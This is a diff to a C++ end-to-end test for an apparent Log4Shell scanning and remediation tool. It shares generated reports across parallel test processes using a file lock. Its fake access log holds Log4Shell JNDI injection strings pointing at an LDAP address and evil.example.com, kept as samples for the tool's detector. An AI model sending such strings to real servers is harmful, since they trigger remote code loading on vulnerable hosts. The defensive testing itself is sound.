@@ -5,6 +5,9 @@
 // the answers written below by hand on both engines. The HTML report is
 // opened in headless Chromium; SARIF and CycloneDX are checked against their
 // schemas' required fields.
+#include <fcntl.h>
+#include <sys/file.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -89,10 +92,31 @@ class FleetE2E : public ::testing::Test {
       return;
     }
     // One folder per process: ctest runs each test as its own process, in parallel.
-    dir = std::string(L4S_TEST_TMP) + "/fleet-e2e/" + std::to_string(getpid());
+    const std::string root = std::string(L4S_TEST_TMP) + "/fleet-e2e";
+    dir = root + "/" + std::to_string(getpid());
     fs::remove_all(dir);
-    fs::create_directories(dir + "/reports");
-    auto out = [&](const std::string& name) { return dir + "/reports/" + name; };
+    fs::create_directories(dir);
+    // The reports are made once per build of the binary and shared by the
+    // test processes (ctest runs each test alone); a lock orders them.
+    struct stat bin_st {};
+    stat(L4S_BINARY, &bin_st);
+    const std::string shared = root + "/reports-" + std::to_string(bin_st.st_mtim.tv_sec) + "." +
+                               std::to_string(bin_st.st_mtim.tv_nsec) + "-" + std::to_string(bin_st.st_size);
+    int lock = open((root + "/lock").c_str(), O_CREAT | O_RDWR | O_CLOEXEC, 0644);
+    flock(lock, LOCK_EX);
+    struct Unlock {
+      int fd;
+      ~Unlock() { close(fd); }
+    } unlock{lock};
+    auto out = [&](const std::string& name) { return shared + "/reports/" + name; };
+    reports = {out("web01-1.json"), out("web01-fix.json"), out("web01-2.jsonl"), out("web02.json"),
+               out("db03.json"),    out("app04-1.json"),   out("app04-2.json")};
+    hunt_report = out("app04-hunt.jsonl");
+    canary_report = out("canary.jsonl");
+    probe_report = out("probe.jsonl");
+    if (fs::exists(shared + "/done")) return;
+    fs::remove_all(shared);
+    fs::create_directories(shared + "/reports");
     auto must = [&](const std::string& cmd, std::initializer_list<int> ok) {
       CmdResult r = run(cmd);
       for (int rc : ok)
@@ -101,12 +125,12 @@ class FleetE2E : public ::testing::Test {
     };
 
     // web01: 2.14.1 on 11-20, fixed by `log4shield fix` on 11-21, rescanned on 11-22.
-    const std::string w1 = dir + "/hosts/web01/opt/app";
+    const std::string w1 = shared + "/hosts/web01/opt/app";
     fs::create_directories(w1);
     fs::copy_file(kTrue141, w1 + "/log4j-core-2.14.1.jar");
     must(kBin + " scan -q --host-name web01 --format json -o " + out("web01-1.json") + " " + w1, {1});
     retime(out("web01-1.json"), "web01", "2026-11-20T09:00:00Z");
-    must(kBin + " fix -q --backup-dir " + dir + "/backups --format json -o " + out("web01-fix.json") + " " + w1, {0});
+    must(kBin + " fix -q --backup-dir " + shared + "/backups --format json -o " + out("web01-fix.json") + " " + w1, {0});
     retime(out("web01-fix.json"), "web01", "2026-11-21T15:30:00Z");
     must(kBin + " scan -q --host-name web01 --format jsonl -o " + out("web01-2.jsonl") + " " + w1, {0});
     {  // jsonl: the host and times are on every line / the summary.
@@ -127,7 +151,7 @@ class FleetE2E : public ::testing::Test {
          {1});
     retime(out("db03.json"), "db03", "2026-10-01T12:00:00Z");
     // app04: 2.16.0 on 11-20, the jar deleted before the 11-23 scan.
-    const std::string a4 = dir + "/hosts/app04/srv";
+    const std::string a4 = shared + "/hosts/app04/srv";
     fs::create_directories(a4);
     fs::copy_file(kGoogle160, a4 + "/log4j-core-2.16.0.jar");
     must(kBin + " scan -q --host-name app04 --format json -o " + out("app04-1.json") + " " + a4, {1});
@@ -135,11 +159,9 @@ class FleetE2E : public ::testing::Test {
     fs::remove(a4 + "/log4j-core-2.16.0.jar");
     must(kBin + " scan -q --host-name app04 --format json -o " + out("app04-2.json") + " " + a4, {0});
     retime(out("app04-2.json"), "app04", "2026-11-23T11:00:00Z");
-    reports = {out("web01-1.json"), out("web01-fix.json"), out("web01-2.jsonl"), out("web02.json"),
-               out("db03.json"),    out("app04-1.json"),   out("app04-2.json")};
 
     // app04's access log: three attempts that reach JNDI, one harmless ${...}.
-    write_text(dir + "/access.log",
+    write_text(shared + "/access.log",
                "198.51.100.23 - - [10/Dec/2021:12:01:02 +0000] \"GET /?x=${jndi:ldap://198.51.100.23:1389/a} "
                "HTTP/1.1\" 200 12 \"-\" \"curl\"\n"
                "203.0.113.9 - - [10/Dec/2021:13:05:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" "
@@ -148,8 +170,7 @@ class FleetE2E : public ::testing::Test {
                "\"${jndi:rmi://evil.example.com:1099/x}\"\n"
                "10.0.0.1 - - [10/Dec/2021:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"-\" "
                "\"Mozilla ${user.home}\"\n");
-    hunt_report = out("app04-hunt.jsonl");
-    must(kBin + " hunt --format jsonl -o " + hunt_report + " " + dir + "/access.log", {1});
+    must(kBin + " hunt --format jsonl -o " + hunt_report + " " + shared + "/access.log", {1});
 
     // The canary's and the prober's own sinks.
     std::string canary;
@@ -164,7 +185,6 @@ class FleetE2E : public ::testing::Test {
       cb.name = "tok" + std::to_string(i) + "/a";
       canary += l4s::net::format_json(cb) + "\n";
     }
-    canary_report = out("canary.jsonl");
     write_text(canary_report, canary);
     l4s::net::TargetResult t;
     t.target = "http://web01:8080/login";
@@ -185,8 +205,8 @@ class FleetE2E : public ::testing::Test {
     l4s::net::TargetResult clean;
     clean.target = "http://web02:8080/";
     clean.sent = 40;
-    probe_report = out("probe.jsonl");
     write_text(probe_report, l4s::net::format_report_jsonl({t, clean}));
+    if (failure.empty()) write_text(shared + "/done", "");
   }
 
   static void TearDownTestSuite() {
